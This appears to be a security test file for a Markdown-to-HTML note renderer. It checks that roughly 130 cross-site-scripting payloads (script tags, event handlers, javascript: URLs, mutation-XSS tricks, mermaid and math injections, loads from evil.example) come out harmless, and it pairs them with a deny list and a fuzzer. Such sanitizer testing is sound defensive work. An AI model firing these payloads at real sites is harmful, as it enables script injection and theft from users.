import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Body, Note, Slot } from "../../src/model/index.js";
import { elementsOf, fill, type Shown, show } from "./body-notation.js";

/** What could run, load, lead astray or shadow a name; empty when the body is harmless. */
function dangersIn({ html, body, note }: Shown): string[] {
	const pieces = [
		html,
		...body.contexts.map(fill),
		...slotsOf(body).flatMap((slot) => ("html" in slot ? [slot.html] : [])),
	];
	for (const { parts } of body.fragments) pieces.push(fill(parts));
	return [...pieces.flatMap(dangersInHtml), ...slotsOf(body).flatMap((slot) => dangersInSlot(slot, note))];
}

function dangersInHtml(html: string): string[] {
	const dangers: string[] = [];
	for (const { tagName, properties } of elementsOf(html)) {
		if (forbidden.has(tagName.toLowerCase())) dangers.push(`<${tagName}>`);
		if (tagName === "input" && properties.type !== "checkbox") dangers.push("<input>");
		for (const [name, value] of Object.entries(properties)) {
			const text = String(value).replace(/[\0-\x20]/g, "");
			if (/^on/i.test(name)) dangers.push(`${tagName} ${name}`);
			if (
				/^(name|srcset|srcdoc|formaction|action|xlinkhref|ping|background|http-?equiv|is|slot)$/i.test(name)
			)
				dangers.push(name);
			if (
				/^(href|cite|longdesc)$/i.test(name) &&
				!/^(https?:|mailto:|tel:|obsidian:|vault:|#|→)/i.test(text)
			) {
				dangers.push(`${name}=${text}`);
			}
			if (/^(src|poster|data)$/i.test(name) && !text.startsWith("vault:")) dangers.push(`${name}=${text}`);
			if (name === "id" && !/^(h|b|u|d|fn|fnref)-/.test(text)) dangers.push(`id=${text}`);
			if (name === "style" && !/^[\w\s:;.,#%()-]*$/.test(String(value))) dangers.push(`style=${text}`);
			if (name === "style" && /url|expression|import|position/i.test(String(value)))
				dangers.push(`style=${text}`);
		}
	}
	return dangers;
}

const forbidden = new Set(
	(
		"script style iframe frame frameset object embed applet form button select textarea base meta link title " +
		"template noscript xmp plaintext portal foreignobject animate animatetransform animatemotion set use image " +
		"feimage maction annotation-xml mglyph isindex marquee dialog slot body html head font center"
	).split(" "),
);

function slotsOf(body: Body): Slot[] {
	const parts = [...body.blocks, ...body.fragments].flatMap((block) => [...block.parts]);
	return [...parts, ...body.footnotes].filter((part) => typeof part !== "string");
}

function dangersInSlot(slot: Slot, { links, tags }: Note): string[] {
	if (slot.slot === "resource" && /^[\0-\x20]*([a-z][a-z0-9+.-]*:|[\\/][\\/])/i.test(slot.url))
		return [slot.url];
	if (slot.slot === "id" && /\s/.test(slot.id)) return [slot.id];
	const forged = ("link" in slot && !links[slot.link]) || ("tag" in slot && !tags[slot.tag]);
	return forged ? [`forged ${slot.slot}`] : [];
}

const attacks: readonly string[] = [
	// Scripts and handlers, plain and disguised.
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<script/x>alert(1)</script/x>",
	"<<script>alert(1)//<</script>",
	"a <script>alert(1)</script> b",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>",
	'<img src="x" onerror="alert(1)"/>',
	"<img/src=x/onerror=alert(1)>",
	"<img src=x:x onerror\n=\nalert(1)>",
	'<img """><script>alert(1)</script>">',
	"<body onload=alert(1)>",
	"<details open ontoggle=alert(1)>x</details>",
	"<video><source onerror=alert(1)></video>",
	"<audio src=x onerror=alert(1)>",
	"<p onclick=alert(1) ONMOUSEOVER=alert(2)>x</p>",
	"<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>",
	"<marquee onstart=alert(1)>x</marquee>",
	"<x onclick=alert(1)>x</x>",
	"<p\u000conclick=alert(1)>x</p>",
	"<p \0onclick=alert(1)>x</p>",
	// Addresses that run.
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](java&Tab;script:alert(1))",
	"[x](&#106;avascript:alert(1))",
	"[x](javascript&colon;alert(1))",
	"[x](<java\tscript:alert(1)>)",
	"[x](<\u0001javascript:alert(1)>)",
	"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"[x](vbscript:msgbox)",
	"[x](file:///etc/passwd)",
	"[x][y]\n\n[y]: javascript:alert(1)",
	"<javascript:alert(1)>",
	"![x](javascript:alert(1))",
	"![x](data:image/svg+xml,<svg/onload=alert(1)>)",
	"[![x](javascript:alert(1))](vbscript:x)",
	"<a href=javascript:alert(1)>x</a>",
	"<a href=' javascript:alert(1)'>x</a>",
	"<a href='java\nscript:alert(1)'>x</a>",
	"<a href='&#1;javascript:alert(1)'>x</a>",
	"<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
	"<a href='//evil.example' src=x>x</a>",
	"<a href='\\\\evil.example'>x</a>",
	"<a href=x ping=//evil.example>x</a>",
	"<a xlink:href=javascript:alert(1)>x</a>",
	"<img src=javascript:alert(1)>",
	"<img src=//evil.example/x.png>",
	"<img src='/\\evil.example/x.png'>",
	"<img src='http&colon;//evil.example/x.png'>",
	"<img srcset='//evil.example/x.png 2x' src=x.png>",
	"<picture><source srcset=//evil.example/x.png><img src=x.png></picture>",
	"<video poster=https://evil.example/x.png src=x.mp4></video>",
	"<audio><source src=https://evil.example/x.mp3></audio>",
	"<video><track src=https://evil.example/x.vtt></video>",
	"<blockquote cite=javascript:alert(1)>x</blockquote>",
	"<table background=//evil.example/x.png><tr><td>x</table>",
	"![x](https://evil.example/x.png)",
	"![x](//evil.example/x.png)",
	"![](https://youtu.be/x)",
	// Documents in documents, and what changes the whole page.
	"<iframe src=javascript:alert(1)></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"a <iframe src=https://evil.example> b",
	"<object data=x.swf></object>",
	"<embed src=x.swf>",
	"<base href=//evil.example/>",
	"<meta http-equiv=refresh content='0;url=//evil.example'>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<style>*{display:none}</style>",
	"<style><img src=x onerror=alert(1)></style>",
	"<p style='background:url(//evil.example)'>x</p>",
	"<p style='position:fixed;inset:0'>x</p>",
	"<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
	"<input type=image src=x onerror=alert(1)>",
	"<textarea><img src=x onerror=alert(1)></textarea>",
	"<select><option onclick=alert(1)>x</select>",
	"<template><script>alert(1)</script></template>",
	"<frameset onload=alert(1)><frame src=javascript:alert(1)>",
	"<plaintext><script>alert(1)</script>",
	"<xmp><script>alert(1)</script></xmp>",
	"<title><script>alert(1)</script></title>",
	"<dialog open>x</dialog>",
	// Namespaces, and trees that change when they are read again.
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
	"<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	"<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
	"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	"<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<a title="<script>alert(1)</script>">x</a>',
	"<p title='\"><script>alert(1)</script>'>x</p>",
	"<img alt='\"><script>alert(1)</script>' src=x.png>",
	"<!--><script>alert(1)</script>-->",
	"<!-- --!><script>alert(1)</script>",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?xml version='1.0'?><script>alert(1)</script>",
	"<table><a href=x><tr><td></a><script>alert(1)</script>",
	"<b><p></b><script>alert(1)</script>",
	"</p></div></section></main></body></html><script>alert(1)</script>",
	// Names that scripts look for, and our own inner notation.
	"<a id=__proto__ name=constructor>x</a>",
	"<img id=getElementById name=cookie src=x.png>",
	"<p id='a b'>x</p><p id=h-x>y</p><p id='\" onclick=alert(1) x=\"'>z</p>",
	"<a notapse mark=0>x</a>",
	'<a "notapse mark"=0>x</a>',
	"<a notapse&#32;mark=0 notapse\u00a0mark=0>x</a>",
	"<p data-t=skip data-t-label=skip class=callout role=button aria-label=x tabindex=0>x</p>",
	"<p is=x-y slot=z part=w>x</p>",
	// Each place where a note's text lands in an attribute or in another language.
	'```"><script>alert(1)</script>\nx\n```',
	'```js"onmouseover=alert(1)\n<script>alert(1)</script>\n```',
	"~~~html\n<script>alert(1)</script>\n~~~",
	"`<script>alert(1)</script>`",
	'| <script>alert(1)</script> | "><img src=x onerror=alert(1)> |\n|-|-|\n| a | b |',
	'- [ ] "><script>alert(1)</script>',
	'> [!tip"><script>] <script>alert(1)</script>\n> x',
	'> [!"onclick=alert(1)]- x\n> y',
	"# <script>alert(1)</script> {#x onclick=alert(1)}",
	'[x](https://a.example/"onclick=alert(1) "t\\"onclick=alert(1)")',
	'https://a.example/"onclick=alert(1)',
	"$\\href{javascript:alert(1)}{x}$",
	"$\\htmlData{onclick=alert(1)}{x}$ $\\class{callout}{x}$ $\\style{position:fixed}{x}$ $\\id{x}{y}$",
	"$\\text{<script>alert(1)</script>}$",
	'$\\color{"><script>alert(1)</script>}x$',
	"$$\\includegraphics{https://evil.example/x.png}$$",
	"$<script>alert(1)</script>$",
	'```mermaid\ngraph TD\n A["<script>alert(1)</script>"] --> B\n click A "javascript:alert(1)"\n```',
	'```mermaid\ngraph TD\n A["<img src=x onerror=alert(1)>"]\n style A fill:url(https://evil.example),stroke:#f00"onload="alert(1)\n```',
	"```mermaid\nsequenceDiagram\n A->>B: </text><script>alert(1)</script>\n```",
	"```mermaid\n%%{init: {'themeCSS':'*{background:url(//evil.example)}'}}%%\ngraph TD\n A-->B\n```",
	'```mermaid\nxychart-beta\n title "</style><script>alert(1)</script>"\n x-axis [a, b]\n bar [1, 2]\n```',
	'```mermaid\nclassDiagram\n class A["<script>alert(1)</script>"]\n A : <script>\n```',
	"x[^1]\n\n[^1]: <script>alert(1)</script> <img src=x onerror=alert(1)>",
	"x^[<img src=x onerror=alert(1)>]",
	"k:: <img src=x onerror=alert(1)>",
	"==<img src=x onerror=alert(1)>==",
];

describe("hostile notes", () => {
	test.each(attacks)("%j", async (markdown) => {
		expect(dangersIn(await show(markdown))).toEqual([]);
	});

	test("two attacks together are no more than one after the other", async () => {
		for (const [index, markdown] of attacks.entries()) {
			const other = attacks[(index * 7 + 3) % attacks.length] ?? "";
			expect(dangersIn(await show(`${markdown}\n\n${other}`))).toEqual([]);
			expect(dangersIn(await show(`${markdown}${other}`))).toEqual([]);
		}
	});

	test("no HTML can carry one of our own marks", async () => {
		const forgeries = ["<b notapse mark=0>x</b>", '<b "notapse mark"=0>x</b>', "<b notapse\tmark='0'>x</b>"];
		for (const forgery of forgeries) {
			const { body } = await show(`[[a]] ${forgery} <i notapse&#32;mark="0">y</i>`);
			expect(slotsOf(body)).toEqual([{ slot: "link", link: 0, html: "a" }]);
		}
	});

	test("the judge knows danger when it sees it", () => {
		const seen = [
			"<script>1</script>",
			"<p onclick=x>",
			"<a href=javascript:x>",
			"<img src=//x>",
			"<p id=x>",
		];
		for (const html of seen) expect(dangersInHtml(html)).not.toEqual([]);
	});
});

describe("any soup of Markdown and HTML", () => {
	const word = fc.constantFrom(
		...[
			"<",
			">",
			"</",
			"/>",
			'"',
			"'",
			"=",
			"<!--",
			"-->",
			"<![CDATA[",
			"&lt;",
			"&#x",
			"&colon;",
			"`",
			"```",
			"~~~\n",
		],
		...[
			"script",
			"svg",
			"math",
			"style",
			"img",
			"a",
			"b",
			"p",
			"div",
			"table",
			"tr",
			"td",
			"iframe",
			"select",
		],
		...["template", "textarea", "title", "noscript", "foreignObject", "mtext", "annotation-xml", "plaintext"],
		...[
			" href=",
			" src=",
			" onerror=",
			" id=",
			" style=",
			" name=",
			" class=",
			" notapse mark=0",
			" srcdoc=",
		],
		...["javascript:", "data:", "//x", "https://x.y/", "alert(1)", "#x", "a.png"],
		...[
			"[",
			"](",
			")",
			"![",
			"[[",
			"]]",
			"![[",
			"|",
			"#t",
			"*",
			"_",
			"==",
			"%%",
			"^[",
			"[^1]",
			"[^1]: ",
			"$",
			"$$",
		],
		...["\n", "\n\n", "\n> ", "\n> [!tip]- ", "\n- [ ] ", "\n# ", "\n    ", " ", "x", "汉", "k:: ", " ^b1"],
		...["```mermaid\ngraph TD\n", "A-->B", "\\href{", "\\color{", "}"],
	);
	const soup = fc.array(fc.oneof({ weight: 9, arbitrary: word }, fc.string({ maxLength: 4 })), {
		maxLength: 40,
	});

	test("never becomes a forbidden node", async () => {
		await fc.assert(
			fc.asyncProperty(soup, async (words) => {
				expect(dangersIn(await show(words.join("")))).toEqual([]);
			}),
			{ numRuns: 1500 },
		);
	});
});
